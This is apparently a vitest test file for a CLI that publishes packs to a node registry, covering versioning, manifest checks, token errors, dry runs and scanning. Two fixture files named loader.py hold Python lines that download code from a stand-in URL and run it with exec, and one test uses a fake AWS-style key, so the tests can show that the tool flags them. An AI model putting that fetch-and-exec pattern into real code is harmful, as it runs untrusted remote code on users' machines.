import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect, test } from 'vitest';
import { regen } from '../support/cli.js';
import { filesForTest, packForTest } from '../support/packs.js';
import { publisherForTest, serviceForTest } from '../support/service.js';

/** A service with the publisher acme, and the environment of somebody who publishes there. */
async function createAuthor() {
  const service = await serviceForTest();
  const { personalAccessToken } = await publisherForTest(service);
  const env = {
    REGEN_BASE_URL: service.url,
    REGEN_TOKEN: service.ownerToken,
    REGEN_PUBLISH_TOKEN: personalAccessToken,
  };
  return { service, env };
}

test('a folder is published in one go, and the answer is the Active version', async () => {
  const { env } = await createAuthor();
  const { exit, stdout, stderr } = await regen(['version', 'publish', packForTest(), '--json'], { env });
  // A program reads errors there.
  expect(stderr).toBe('');
  expect(exit).toBe(0);
  const version = JSON.parse(stdout);
  expect(version).toMatchObject({
    node_id: 'pack',
    version: '1.0.0',
    status: 'NodeVersionStatusActive',
    host_node_extract_status: 'success',
  });
  expect(stdout).not.toContain('signature');
  const { stdout: defined } = await regen(['host-nodes', 'list', 'pack', '1.0.0'], { env });
  expect(defined).toBe('Greet\tpack\tgreet\t["STRING"]\tHostNodePolicyActive\tfalse\n');
});

test('the personal access token alone publishes, as from CI', async () => {
  const { env } = await createAuthor();
  const { REGEN_TOKEN: _, ...only } = env;
  expect((await regen(['version', 'publish', packForTest()], { env: only })).exit).toBe(0);
});

test('publishing the same files again exits 5, or 0 with --skip-existing, and other files always exit 5', async () => {
  const { env } = await createAuthor();
  const pack = packForTest();
  await regen(['version', 'publish', pack], { env });
  const again = await regen(['version', 'publish', pack, '--json'], { env });
  expect(again).toMatchObject({ exit: 5, stdout: '' });
  expect(again.stderr).toContain('"code":"version_exists"');
  const skipped = await regen(['version', 'publish', pack, '--skip-existing', '--json'], { env });
  expect(skipped.exit).toBe(0);
  expect(JSON.parse(skipped.stdout)).toMatchObject({ status: 'NodeVersionStatusActive' });
  const other = packForTest({ files: { 'more.py': '# more\n' } });
  const refused = await regen(['version', 'publish', other, '--skip-existing'], { env });
  expect(refused.exit).toBe(5);
  expect(refused.stderr).toContain('pack 1.0.0 is already published with other files.');
  expect(refused.stderr).toContain(`version number: regen version bump auto ${other}\n`);
});

test('publishing a deleted version number exits 5 and says how to set the next one', async () => {
  const { env } = await createAuthor();
  await regen(['version', 'publish', packForTest()], { env });
  expect((await regen(['version', 'delete', 'acme', 'pack', '1.0.0', '--yes'], { env })).exit).toBe(0);
  const { exit, stderr } = await regen(['version', 'publish', packForTest()], { env });
  expect(exit).toBe(5);
  expect(stderr).toContain('was deleted');
  expect(stderr).toContain('regen version bump auto');
});

test('all problems of a manifest are reported before anything is sent', async () => {
  const folder = filesForTest({ 'pyproject.toml': '[project]\nname = "-bad-"\nversion = "1.0rc1"\n' });
  const { exit, stdout, stderr } = await regen(['version', 'publish', folder], {
    env: { REGEN_BASE_URL: 'http://127.0.0.1:9' },
  });
  expect({ exit, stdout }).toEqual({ exit: 2, stdout: '' });
  expect(stderr).toContain('[project] name');
  expect(stderr).toContain("'1.0rc1' is not a semantic version; write 1.0.0-rc.1");
  expect(stderr).toContain('pyproject.toml has neither [tool.comfy] nor [tool.hostui]');
});

test('secrets are refused with their file and line, and never shown', async () => {
  const secret = ['AKIA', 'Q3EGRIT5X7KLMZPW'].join('');
  const pack = packForTest({ files: { '.env': 'KEY=1\n', 'cloud.py': `\nkey = "${secret}"\n` } });
  const { exit, stderr } = await regen(['version', 'publish', pack], {
    env: { REGEN_BASE_URL: 'http://127.0.0.1:9' },
  });
  expect(exit).toBe(2);
  expect(stderr).toContain('.env');
  expect(stderr).toContain('cloud.py:2');
  expect(stderr).not.toContain(secret);
});

test('a token of another publisher exits 4', async () => {
  const { env } = await createAuthor();
  await regen(['publisher', 'create', '--id', 'other', '--name', 'Other'], { env });
  const { stdout: token } = await regen(['publisher', 'token', 'create', 'other', 'x'], { env });
  const { exit, stderr } = await regen(['version', 'publish', packForTest(), '--json'], {
    env: { ...env, REGEN_PUBLISH_TOKEN: token.trim() },
  });
  expect(exit).toBe(4);
  expect(JSON.parse(stderr.split('\n').at(-2) as string)).toMatchObject({
    error: { code: 'invalid_personal_access_token', status: 400 },
  });
});

test('--dry-run shows the request with its secret masked and sends nothing', async () => {
  const { env } = await createAuthor();
  const { exit, stdout } = await regen(['version', 'publish', packForTest(), '--dry-run', '--json'], { env });
  expect(exit).toBe(0);
  const request = JSON.parse(stdout);
  expect(request).toMatchObject({ method: 'POST', body: { personal_access_token: '***' } });
  const { exit: absent } = await regen(['node', 'get', 'pack'], { env });
  expect(absent).toBe(3);
});

test('a changelog comes from a flag, a file or standard input', async () => {
  const { env } = await createAuthor();
  const folder = filesForTest({ 'CHANGES.md': 'From a file\n' });
  const publish = (version: string, flags: string[], stdin?: string) =>
    regen(['version', 'publish', packForTest({ version }), ...flags, '--json'], {
      env,
      ...(stdin !== undefined && { stdin }),
    }).then(({ stdout }) => JSON.parse(stdout).changelog);
  expect(await publish('1.0.0', ['--changelog', 'From a flag'])).toBe('From a flag');
  expect(await publish('1.1.0', ['--changelog-file', join(folder, 'CHANGES.md')])).toBe('From a file');
  expect(await publish('1.2.0', ['--changelog-file', '-'], 'From a pipe\n')).toBe('From a pipe');
});

test('an archive that the registry flags exits 6 with the reason', async () => {
  const { env } = await createAuthor();
  const pack = packForTest({
    files: {
      'loader.py':
        'import urllib.request\n\ndef load():\n    exec(urllib.request.urlopen("https://example.com/x.py").read())\n',
    },
  });
  const { exit, stdout, stderr } = await regen(['version', 'publish', pack, '--allow-findings'], { env });
  expect({ exit, stdout }).toEqual({ exit: 6, stdout: '' });
  expect(stderr).toContain('is Flagged');
  expect(stderr).toContain(`because this one is used up: regen version bump patch ${pack}. `);
  expect(stderr).toContain('loader.py');
});

test('a finding that would flag the version stops the publish before anything is sent', async () => {
  const pack = packForTest({
    files: { 'loader.py': 'import requests\nexec(requests.get("https://example.com/x.py").text)\n' },
  });
  const { exit, stderr } = await regen(['version', 'publish', pack], {
    env: { REGEN_BASE_URL: 'http://127.0.0.1:9' },
  });
  expect(exit).toBe(6);
  expect(stderr).toContain('loader.py:2');
  expect(stderr).toContain('--allow-findings');
});

test('pack writes the archive that publish would upload, twice the same bytes, and lists it', async () => {
  const pack = packForTest();
  const out = filesForTest({});
  const { exit, stdout } = await regen(['version', 'pack', pack, '-o', join(out, 'a.zip')]);
  expect({ exit, stdout }).toEqual({ exit: 0, stdout: `${join(out, 'a.zip')}\n` });
  await regen(['version', 'pack', pack, '-o', join(out, 'b.zip')]);
  expect(readFileSync(join(out, 'a.zip')).equals(readFileSync(join(out, 'b.zip')))).toBe(true);
  const taken = await regen(['version', 'pack', pack, '-o', join(out, 'a.zip')]);
  expect(taken.exit).toBe(2);
  const listed = await regen(['version', 'pack', pack, '--list']);
  expect(listed.stdout).toMatch(/^\d+\t__init__\.py\n\d+\tpyproject\.toml\n$/);
});
